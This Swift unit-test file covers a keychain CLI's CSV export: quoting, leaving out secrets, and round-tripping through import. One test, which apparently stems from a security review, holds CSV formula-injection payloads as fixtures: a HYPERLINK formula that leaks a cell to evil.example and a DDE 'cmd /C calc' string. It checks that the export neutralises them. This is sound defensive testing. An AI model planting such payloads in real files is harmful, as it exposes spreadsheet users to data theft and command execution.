import XCTest
import KCCrypto
import KCFormat
@testable import KCCLI
import KCExchange
import KCKeychain

/// kc's CSV export: RFC 4180 quoting, secrets always quoted, binary secrets base64 in their column,
/// and what it writes reads back the same.
final class CSVWriterTests: XCTestCase {
    private func item(_ secret: [UInt8], _ values: [Attribute: String]) -> Item {
        Item(id: Array(0..<16), attributes: ItemAttributes(.generic, values), created: 1_700_000_000_123,
             modified: 1_700_000_000_456, secret: SecureBytes(copying: secret))
    }

    func testFieldsAreQuotedOnlyWhenNeeded() {
        XCTAssertEqual(CSVWriter.quoted("plain é"), "plain é")
        XCTAssertEqual(CSVWriter.quoted("a,b"), "\"a,b\"")
        XCTAssertEqual(CSVWriter.quoted("say \"hi\""), "\"say \"\"hi\"\"\"")
        XCTAssertEqual(CSVWriter.quoted("two\nlines"), "\"two\nlines\"")
        XCTAssertEqual(CSVWriter.quoted("cr\r"), "\"cr\r\"")
    }

    func testRowsReadBackWithSecretsAndDates() throws {
        let out = Output()
        let items = [item(Array("p,\"w\"\nx".utf8), [.service: "s,1", .account: "me", .label: "", .comment: "Ворота \"q\""]),
                     item([0, 0xFF, 0x22, 0x0A], [.service: "bin"])]
        CSVWriter.write(items, withSecrets: true, to: out)
        out.flush()
        let lines = out.capturedText.components(separatedBy: "\r\n")
        XCTAssertEqual(lines[0], ItemCSVReader.columns.joined(separator: ","))
        XCTAssertTrue(lines[2].hasSuffix(",,\"AP8iCg==\""), lines[2])
        let rows = try out.captured.withUnsafeBytes { ItemCSVReader.read($0) }.get()
        XCTAssertEqual(rows.count, 2)
        for (row, original) in zip(rows, items) {
            let read = try row.result.get()
            XCTAssertEqual(read.attributes, original.attributes)
            XCTAssertEqual(read.secret.copyBytes(), original.secret.copyBytes())
            XCTAssertEqual(read.id, original.id)
            XCTAssertEqual(read.created, original.created)
            XCTAssertEqual(read.modified, original.modified)
        }
    }

    func testWithoutSecretsBothSecretColumnsAreEmpty() {
        let out = Output()
        CSVWriter.write([item(Array("hunter2".utf8), [.service: "s"])], withSecrets: false, to: out)
        out.flush()
        XCTAssertFalse(out.capturedText.contains("hunter2"))
        XCTAssertTrue(out.capturedText.hasSuffix(",,\r\n"))
    }

    /// Security review L6: a cell a spreadsheet would take for a formula (it begins with =, +, -, @,
    /// tab or CR) is written with a leading apostrophe, secrets included, and kc's own import takes
    /// it off again, so export and import round-trip exactly.
    func testFormulaCellsGetAnApostropheThatImportTakesOff() throws {
        let values: [Attribute: String] = [
            .service: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", .account: "=1+2", .comment: "@SUM(1)",
            .label: "-2+3", .description: "+1", .generic: "\tcmd",
        ]
        let items = [item(Array("=cmd|' /C calc'!A0".utf8), values),
                     item(Array("-x".utf8), [.service: "''+two", .account: "'plain", .label: "'=already", .comment: "\rx"])]
        let out = Output()
        CSVWriter.write(items, withSecrets: true, to: out)
        out.flush()
        let text = out.capturedText
        for expected in ["'=HYPERLINK(", ",'=1+2,", ",'@SUM(1),", ",'-2+3,", ",'+1,", ",'\tcmd,", ",\"'\rx\",", ",''=already,",
                         ",\"'=cmd|' /C calc'!A0\",", ",\"'-x\",", ",'''+two,"] {
            XCTAssertTrue(text.contains(expected), "\(expected) not in \(text)")
        }
        XCTAssertTrue(text.contains(",'plain,"), "an apostrophe before anything else is left as it is: \(text)")
        let rows = try out.captured.withUnsafeBytes { ItemCSVReader.read($0) }.get()
        XCTAssertEqual(rows.count, 2)
        for (row, original) in zip(rows, items) {
            let read = try row.result.get()
            XCTAssertEqual(read.attributes, original.attributes)
            XCTAssertEqual(read.secret.copyBytes(), original.secret.copyBytes())
        }
    }

    /// Which cells are guarded: a formula character first, after any apostrophes (so that an
    /// apostrophe kc did not add survives the import), never anything else.
    func testTheGuardRule() {
        for guarded in ["=", "+1", "-", "@x", "\t", "\r", "'=", "''-x"] {
            XCTAssertTrue(ItemCSVReader.needsFormulaGuard(Array(guarded.utf8)), guarded)
        }
        for plain in ["", "a=b", "'", "'a", "''", " =x", "1-2"] {
            XCTAssertFalse(ItemCSVReader.needsFormulaGuard(Array(plain.utf8)), plain)
        }
    }
}
